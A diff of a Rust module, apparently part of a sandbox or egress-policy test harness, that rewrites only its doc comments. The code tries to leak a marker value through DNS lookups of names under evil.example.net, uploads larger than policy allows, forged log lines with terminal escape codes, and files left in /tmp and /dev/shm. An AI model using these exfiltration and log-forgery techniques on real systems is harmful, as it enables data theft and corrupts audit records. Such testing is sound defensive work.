@@ -1,15 +1,15 @@
-//! Data that leaves without a connection of its own: in names, in what is allowed, in what is written down.
+//! Attempts to leak data without a connection of their own: in names, in allowed requests, in what is recorded.
 
 use std::fs;
 
 use super::client::{Client, tls};
 use super::{Aims, Attempt, Tried, attempt, knock};
 
-/// What is carried out.
+/// The data that is to leak.
 pub(crate) const CARGO: &str = "c4f3d00d5ec7e7";
-/// How a forged line would begin.
+/// The beginning of a forged line.
 pub(crate) const FORGED: &str = "{\"forged\":";
-/// How much is sent where less is allowed.
+/// How many bytes are sent where fewer are allowed.
 const MUCH: usize = 4 << 20;
 const PLACES: [&str; 3] = ["/dev/shm", "/tmp", "/var/tmp"];
 
@@ -23,7 +23,7 @@ pub(super) fn attempts(id: u16, aims: &Aims) -> Vec<Attempt> {
     }
 }
 
-/// Names that are data. Whether somebody was asked for them is seen where names are resolved.
+/// Looks up names that contain data. The resolver sees whether a query for them arrived.
 fn lookups(aims: &Aims) -> Vec<Attempt> {
     let names = [
         format!("{CARGO}.evil.example.net"),
@@ -46,7 +46,7 @@ fn lookups(aims: &Aims) -> Vec<Attempt> {
     all
 }
 
-/// More than the policy lets out, at once and in pieces.
+/// Uploads more than the policy allows, in one piece and in several.
 fn uploads(aims: &Aims) -> Vec<Attempt> {
     let body = |count: usize| {
         format!(
@@ -80,7 +80,7 @@ fn uploads(aims: &Aims) -> Vec<Attempt> {
     ]
 }
 
-/// Refusals that would write lines of the attacker's own.
+/// Causes refusals that would write lines of the attacker's own.
 fn forged(aims: &Aims) -> Vec<Attempt> {
     let line = format!("\n{FORGED}\"yes\"}}\n\u{1b}[2J");
     let (name, path, header) = (line.clone(), line.clone(), line);
@@ -104,7 +104,7 @@ fn forged(aims: &Aims) -> Vec<Attempt> {
     ]
 }
 
-/// Leaves something where another could find it, and looks for what another left.
+/// Leaves data where another run could find it, and looks for what another run left.
 fn share() -> Tried {
     let mut found = Vec::new();
     for place in PLACES {
@@ -112,7 +112,7 @@ fn share() -> Tried {
         if fs::exists(&path).unwrap_or(false) {
             found.push(path);
         } else {
-            // A place that cannot be written to carries nothing.
+            // A folder that is not writable carries nothing.
             let _ = fs::write(&path, CARGO);
         }
     }
